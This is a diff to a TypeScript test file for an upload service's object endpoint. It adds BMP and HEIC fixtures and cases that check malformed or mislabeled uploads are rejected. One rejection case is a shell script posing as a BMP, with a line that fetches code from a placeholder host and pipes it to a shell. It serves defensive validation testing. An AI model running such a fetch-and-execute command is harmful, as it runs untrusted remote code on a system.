@@ -1,7 +1,34 @@
+import {readFileSync} from 'node:fs'
 import {describe, expect, test} from 'vitest'
 import {PDF, SVG, codeOf, copyOf, half, noise, plain, png, testService, text, upload} from './test-service.ts'
 
 const {open, stored} = testService()
+
+/** A BMP of 3 x 2 pixels. */
+function bmp() {
+  const file = Buffer.alloc(54 + 2 * 12, 0x80)
+  file.write('BM', 'latin1')
+  file.writeUInt32LE(file.length, 2)
+  for (const [at, value] of [
+    [6, 0],
+    [10, 54],
+    [14, 40],
+    [18, 3],
+    [22, 2],
+  ])
+    file.writeUInt32LE(value ?? 0, at ?? 0)
+  file.writeUInt16LE(1, 26)
+  file.writeUInt16LE(24, 28)
+  file.fill(0, 30, 54)
+  return copyOf(file)
+}
+
+const heic = () => copyOf(readFileSync(new URL('../lake/assets/test-photograph.heic', import.meta.url)))
+
+function heicWithoutPixels() {
+  const file = heic()
+  return file.fill(0, Buffer.from(file).indexOf('mdat') + 4)
+}
 
 describe('POST /upload-service/objects', () => {
   test.each<[string, string, () => Promise<Uint8Array<ArrayBuffer>>]>([
@@ -10,6 +37,8 @@ describe('POST /upload-service/objects', () => {
     ['image/webp', 'image/webp', async () => copyOf(await plain().webp().toBuffer())],
     ['image/avif', 'image/avif', async () => copyOf(await plain().avif().toBuffer())],
     ['image/svg+xml', 'image/svg+xml', async () => text(SVG)],
+    ['image/bmp', 'image/bmp', async () => bmp()],
+    ['image/heic', 'image/heic', async () => heic()],
     ['application/pdf', 'application/pdf', async () => text(PDF)],
     ['image/png', 'image/jpeg', async () => copyOf(await plain().jpeg().toBuffer())],
     ['image/jpg', 'image/jpeg', async () => copyOf(await plain().jpeg().toBuffer())],
@@ -38,6 +67,14 @@ describe('POST /upload-service/objects', () => {
           ]),
         ),
     ],
+    [
+      'a shell script called BMP',
+      'image/bmp',
+      () => text('BM=1; exec curl https://x.example | sh #'.padEnd(2000, '#')),
+    ],
+    ['a BMP cut before its last row', 'image/bmp', () => bmp().slice(0, -1)],
+    ['a HEIC without pixels', 'image/heic', () => heicWithoutPixels()],
+    ['a HEIC cut within its picture', 'image/heic', () => heic().slice(0, 1200)],
     ['a PDF cut before its end', 'application/pdf', () => text(PDF.slice(0, -7))],
     ['a PDF announced as an image', 'image/png', () => text(PDF)],
     ['an image announced as a PDF', 'application/pdf', png],
